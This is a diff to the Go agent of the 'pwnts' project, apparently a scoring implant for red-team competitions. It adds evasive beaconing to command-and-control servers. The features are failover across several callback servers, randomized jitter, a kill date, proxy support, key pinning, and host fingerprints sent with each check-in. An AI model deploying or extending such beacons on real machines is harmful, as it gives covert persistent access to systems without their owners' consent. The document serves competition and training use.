@@ -14,14 +14,24 @@ package main
 // For scoring: Regex if it has "malware" in the title, double points for style?
 
 import (
+	"errors"
 	"fmt"
+	"math/rand"
 	"os"
+	"strings"
+	"syscall"
 	"time"
 
+	"crypto/sha256"
 	"crypto/tls"
+	"encoding/hex"
 	"net"
 
 	"github.com/olekukonko/tablewriter"
+	"github.com/s-christian/pwnts/agent/agentconfig"
+	"github.com/s-christian/pwnts/agent/fingerprint"
+	"github.com/s-christian/pwnts/agent/proxy"
+	"github.com/s-christian/pwnts/agent/sockopt"
 	"github.com/s-christian/pwnts/utils"
 
 	"github.com/fatih/color"
@@ -32,27 +42,31 @@ import (
 type AgentInfoStruct struct {
 	AgentUUID         string
 	LocalAddress      net.TCPAddr
-	ServerAddress     net.TCPAddr
+	ServerAddresses   []string
 	CallbackFrequency time.Duration
+	JitterPercent     int
 	ServerPublicKey   string
+	KillDate          string
 }
 
 var (
-	AgentUUID string // set during compilation
+	// Patched in when the Agent is generated, see `agent/agentconfig`.
+	// Must remain a variable so the compiler never folds the constant away.
+	configRegion string = agentconfig.EmptyRegion
+	config       agentconfig.Config
 
-	LocalPortString string // set during compilation
-	localPort       int
-	localAddress    net.TCPAddr
-	// testing: localAddress      net.TCPAddr   = net.TCPAddr{Port: LocalPort}
+	localAddress net.TCPAddr
 
-	ServerIP         string // set during compilation
-	ServerPortString string // set during compilation
-	serverPort       int
-	serverAddress    net.TCPAddr
-	serverPublicKey  string = "555"
+	// Callback servers in order of preference, and the one that last worked
+	endpoints       []agentconfig.Endpoint
+	currentEndpoint int
 
-	CallbackFrequencyMinutesString string // set during compilation
-	callbackFrequencyMinutes       time.Duration
+	// Connect to the callback servers directly or through a proxy, from the
+	// configured local port or, failing that, any port
+	boundDialer     *proxy.Dialer
+	ephemeralDialer *proxy.Dialer
+
+	callbackFrequencyMinutes time.Duration
 
 	agentInfo AgentInfoStruct
 	// testing: AgentUUID, _                 = uuid.Parse("ef1a6a78-0d95-490a-a07f-9607e00b96ce")
@@ -60,62 +74,149 @@ var (
 	tlsConfig tls.Config = tls.Config{InsecureSkipVerify: true}
 )
 
-func callback() {
-	// All errors are ignored since we want to keep trying, infinitely
+const (
+	dialTimeout time.Duration = 10 * time.Second
+
+	// Wait between trying one callback server and the next
+	initialBackoff time.Duration = 1 * time.Second
+	maxBackoff     time.Duration = 30 * time.Second
+)
+
+/*
+	Verify the server's public key against the pinned key, if any. The
+	server's certificate is self-signed, so this replaces normal chain
+	verification.
+*/
+func verifyServerKey(connectionState tls.ConnectionState) error {
+	if config.ServerKeyPin == "" {
+		return nil
+	}
+	if len(connectionState.PeerCertificates) == 0 {
+		return errors.New("server sent no certificate")
+	}
+
+	keyHash := sha256.Sum256(connectionState.PeerCertificates[0].RawSubjectPublicKeyInfo)
+	if hex.EncodeToString(keyHash[:]) != config.ServerKeyPin {
+		return errors.New("server public key does not match the pinned key")
+	}
+
+	return nil
+}
+
+/*
+	Open a connection to a callback server from the configured local port.
+	If that port can't be bound (already in use, or privileged and we aren't
+	root), fall back to any port rather than missing the callback.
+*/
+func dial(address string) (net.Conn, error) {
+	conn, err := boundDialer.Dial(address)
+	if err == nil {
+		return conn, nil
+	}
+
+	// The server or proxy is unreachable, another local port won't help
+	var netErr net.Error
+	if errors.Is(err, syscall.ECONNREFUSED) || (errors.As(err, &netErr) && netErr.Timeout()) {
+		return nil, err
+	}
+
+	return ephemeralDialer.Dial(address)
+}
 
-	// TODO: Allow for custom local port to be specified, currently unsure how to do this.
-	// Can do it with net.Dial(), but there's no option in tls.Dial()
-	conn, err := tls.Dial("tcp", ServerIP+":"+ServerPortString, &tlsConfig)
-	//conn, err := net.DialTCP("tcp", &localAddress, &serverAddress)
+/*
+	Send a message to a single callback server, returning the local address
+	it was sent from. The connection isn't closed here, see the note at the
+	end of `testServer()`.
+*/
+func sendMessage(endpoint agentconfig.Endpoint, message string) (net.Addr, error) {
+	rawConn, err := dial(endpoint.Address)
 	if err != nil {
-		return
+		return nil, err
+	}
+
+	conn := tls.Client(rawConn, &tlsConfig)
+	err = conn.SetDeadline(time.Now().Add(dialTimeout))
+	if err != nil {
+		return nil, err
+	}
+	err = conn.Handshake()
+	if err != nil {
+		rawConn.Close()
+		return nil, err
 	}
 
 	err = conn.SetWriteDeadline(time.Now().Add(time.Second * 1))
 	if err != nil {
-		return
+		return nil, err
 	}
 
-	callbackMessage := AgentUUID
-	numBytes, err := conn.Write([]byte(callbackMessage))
+	numBytes, err := conn.Write([]byte(message))
 	if err != nil { // couldn't establish connection?
-		return
+		return nil, err
 	} else if numBytes == 0 { // somehow wasn't able to send any data
-		return
+		return nil, errors.New("sent 0 bytes")
 	}
+
+	return conn.LocalAddr(), nil
 }
 
-// Test Agent's connection to the server. Only used if the `--test` flag is passed.
-func testServer() {
-	utils.Log(utils.Info, "Testing connection to server...")
-	utils.Log(utils.Info, "Local Address: ", localAddress.IP.String()+":"+fmt.Sprint(localAddress.Port))
-	utils.Log(utils.Info, "Server Address:", serverAddress.IP.String()+":"+fmt.Sprint(serverAddress.Port))
+/*
+	Call back, starting with the last endpoint that worked. On failure, move
+	on to the next endpoint in the list after a backoff which doubles with
+	each failure, giving up once every endpoint has been tried.
+*/
+func callback() error {
+	// Collected every time, the Agent's IP addresses (or host!) may have changed
+	checkin := config.AgentUUID + " " + fingerprint.Collect().Encode()
+
+	backoff := initialBackoff
+	var err error
+	for attempt := 0; attempt < len(endpoints); attempt++ {
+		if attempt > 0 {
+			time.Sleep(backoff)
+			backoff *= 2
+			if backoff > maxBackoff {
+				backoff = maxBackoff
+			}
+		}
 
-	// TODO: Allow for custom local port to be specified, currently unsure how to do this.
-	// Can do it with net.Dial(), but there's no option in tls.Dial()
-	conn, err := tls.Dial("tcp", ServerIP+":"+ServerPortString, &tlsConfig)
-	if err != nil {
-		utils.LogError(utils.Error, err, "Could not connect to server")
-		os.Exit(utils.ERR_CONNECTION)
+		_, err = sendMessage(endpoints[currentEndpoint], checkin)
+		if err == nil {
+			return nil // stick with this endpoint
+		}
+		currentEndpoint = (currentEndpoint + 1) % len(endpoints)
 	}
 
-	err = conn.SetWriteDeadline(time.Now().Add(time.Second * 1))
-	if err != nil {
-		utils.LogError(utils.Warning, err, "Setting write deadline failed, this is weird")
-	}
+	return err
+}
 
-	testMessage := fmt.Sprintf("%s %s", AgentUUID, "TEST")
-	numBytes, err := conn.Write([]byte(testMessage))
-	if err != nil {
-		utils.LogError(utils.Error, err, "Could not send data to server (write timeout)")
-		os.Exit(utils.ERR_WRITE)
-	} else if numBytes == 0 {
-		utils.LogError(utils.Error, err, "Could not send data to server (sent 0 bytes)")
-		os.Exit(utils.ERR_BYTES)
+/*
+	Test Agent's connection to each of its callback servers. Only used if
+	the `--test` flag is passed.
+*/
+func testServer() {
+	utils.Log(utils.Info, "Testing connection to server...")
+	utils.Log(utils.Info, "Local Address: ", localAddress.String())
+	utils.Log(utils.Info, "Path:          ", boundDialer.Path())
+	utils.Log(utils.Info, "Fingerprint:   ", fingerprint.Collect().Encode())
+
+	working := 0
+	for _, endpoint := range endpoints {
+		utils.Log(utils.Info, "Server Address:", endpoint.Address, "("+endpoint.Transport+")")
+
+		sentFrom, err := sendMessage(endpoint, fmt.Sprintf("%s %s", config.AgentUUID, "TEST"))
+		if err != nil {
+			utils.LogError(utils.Error, err, "\tCould not connect to server")
+			continue
+		}
+
+		utils.Log(utils.Done, "\tWorks! (sent from "+sentFrom.String()+")")
+		working++
 	}
 
-	utils.Log(utils.Done, "Wrote", fmt.Sprint(numBytes), "bytes to server")
-	utils.Log(utils.Done, "Works!")
+	if working == 0 {
+		os.Exit(utils.ERR_CONNECTION)
+	}
 
 	/* Note:
 	We don't want to close the connection ourselves, because then
@@ -127,10 +228,10 @@ func testServer() {
 }
 
 func (info AgentInfoStruct) printAgentInfo() {
-	data := []string{info.AgentUUID, info.LocalAddress.String(), info.ServerAddress.String(), info.CallbackFrequency.String(), info.ServerPublicKey}
+	data := []string{info.AgentUUID, info.LocalAddress.String(), strings.Join(info.ServerAddresses, "\n"), info.CallbackFrequency.String(), fmt.Sprint(info.JitterPercent) + "%", info.ServerPublicKey, info.KillDate}
 
 	table := tablewriter.NewWriter(os.Stdout)
-	table.SetHeader([]string{"Agent UUID", "Local Address", "ServerAddress", "Callback Frequency", "Server Public Key"})
+	table.SetHeader([]string{"Agent UUID", "Local Address", "Server Addresses", "Callback Frequency", "Jitter", "Server Public Key", "Kill Date"})
 	table.SetAlignment(tablewriter.ALIGN_LEFT)
 	table.SetHeaderColor(
 		tablewriter.Colors{tablewriter.Bold, tablewriter.FgHiRedColor},
@@ -138,6 +239,8 @@ func (info AgentInfoStruct) printAgentInfo() {
 		tablewriter.Colors{tablewriter.Bold, tablewriter.FgHiRedColor},
 		tablewriter.Colors{tablewriter.Bold, tablewriter.FgHiRedColor},
 		tablewriter.Colors{tablewriter.Bold, tablewriter.FgHiRedColor},
+		tablewriter.Colors{tablewriter.Bold, tablewriter.FgHiRedColor},
+		tablewriter.Colors{tablewriter.Bold, tablewriter.FgHiRedColor},
 	)
 	table.SetColumnColor(
 		tablewriter.Colors{tablewriter.FgRedColor},
@@ -145,6 +248,8 @@ func (info AgentInfoStruct) printAgentInfo() {
 		tablewriter.Colors{tablewriter.FgRedColor},
 		tablewriter.Colors{tablewriter.FgRedColor},
 		tablewriter.Colors{tablewriter.FgRedColor},
+		tablewriter.Colors{tablewriter.FgRedColor},
+		tablewriter.Colors{tablewriter.FgRedColor},
 	)
 
 	table.Append(data)
@@ -154,37 +259,47 @@ func (info AgentInfoStruct) printAgentInfo() {
 }
 
 func main() {
-	// Initialize variables if they weren't provide during the build
-	if AgentUUID == "" {
-		AgentUUID = uuid.New().String()
-	}
-	if LocalPortString == "" {
-		LocalPortString = "1337"
-	}
-	if ServerIP == "" {
-		ServerIP = "127.0.0.1"
-	}
-	if ServerPortString == "" {
-		ServerPortString = "444"
-	}
-	if CallbackFrequencyMinutesString == "" {
-		CallbackFrequencyMinutesString = "1"
+	// Read the configuration patched in during generation
+	var err error
+	config, err = agentconfig.Decode([]byte(configRegion))
+	if err == agentconfig.ErrNotConfigured {
+		// Unpatched stub (e.g. `go run agent/agent.go`), use testing defaults
+		config = agentconfig.Config{
+			AgentUUID:       uuid.New().String(),
+			LocalPort:       1337,
+			ServerIP:        "127.0.0.1",
+			ServerPort:      444,
+			CallbackMinutes: 1,
+		}
+	} else {
+		utils.CheckErrorExit(utils.Error, err, utils.ERR_CONFIG, "Could not read Agent configuration")
 	}
 
 	// Set up variables
-	_, err := fmt.Sscan(LocalPortString, &localPort)
-	utils.CheckErrorExit(utils.Error, err, utils.ERR_SCAN, "Could not parse LocalPortString as integer")
-	localAddress = net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: localPort}
+	localAddress = net.TCPAddr{Port: config.LocalPort} // any interface
+	callbackFrequencyMinutes = time.Duration(config.CallbackMinutes) * time.Minute
+
+	// Hostnames are resolved on every connection, so a callback server can
+	// move without breaking its Agents
+	endpoints = config.CallbackEndpoints()
+	var serverAddresses []string
+	for _, endpoint := range endpoints {
+		serverAddresses = append(serverAddresses, endpoint.Address)
+	}
+
+	// Set at build time, or found in the environment
+	boundDialer, err = proxy.New(&net.Dialer{Timeout: dialTimeout, LocalAddr: &localAddress, Control: sockopt.ReuseAddress}, config.Proxy)
+	utils.CheckErrorExit(utils.Error, err, utils.ERR_CONFIG, "Invalid proxy")
+	ephemeralDialer, _ = proxy.New(&net.Dialer{Timeout: dialTimeout}, config.Proxy)
 
-	_, err = fmt.Sscan(CallbackFrequencyMinutesString, &callbackFrequencyMinutes)
-	utils.CheckErrorExit(utils.Error, err, utils.ERR_SCAN, "Could not parse CallbackFrequencyMinutesString as integer")
-	callbackFrequencyMinutes = time.Duration(callbackFrequencyMinutes) * time.Minute
+	tlsConfig.VerifyConnection = verifyServerKey
 
-	_, err = fmt.Sscan(ServerPortString, &serverPort)
-	utils.CheckErrorExit(utils.Error, err, utils.ERR_SCAN, "Could not parse ServerPortString as integer")
-	serverAddress = net.TCPAddr{IP: net.ParseIP(ServerIP), Port: serverPort}
+	killDate := "Never"
+	if config.KillDateUnix != 0 {
+		killDate = time.Unix(config.KillDateUnix, 0).Format(time.RFC3339)
+	}
 
-	agentInfo = AgentInfoStruct{AgentUUID: AgentUUID, LocalAddress: localAddress, ServerAddress: serverAddress, CallbackFrequency: callbackFrequencyMinutes, ServerPublicKey: serverPublicKey}
+	agentInfo = AgentInfoStruct{AgentUUID: config.AgentUUID, LocalAddress: localAddress, ServerAddresses: serverAddresses, CallbackFrequency: callbackFrequencyMinutes, JitterPercent: config.JitterPercent, ServerPublicKey: config.ServerKeyPin, KillDate: killDate}
 
 	// Intentionally not using the "flag" package because we never want to print usage information
 	single := false
@@ -203,12 +318,23 @@ func main() {
 		}
 	}
 
+	// Past the kill date, do nothing ever again
+	if config.Expired(time.Now()) {
+		return
+	}
+
 	// First callback
 	callback()
 
-	// Call back to server according to the callback frequency in minutes
+	// Call back to server according to the callback frequency in minutes,
+	// randomized by the jitter so the callbacks aren't perfectly periodic
 	if !single {
-		for range time.Tick(callbackFrequencyMinutes) {
+		rand.Seed(time.Now().UnixNano())
+		for {
+			time.Sleep(config.CallbackDelay(rand.Float64()))
+			if config.Expired(time.Now()) {
+				return
+			}
 			callback()
 		}
 	}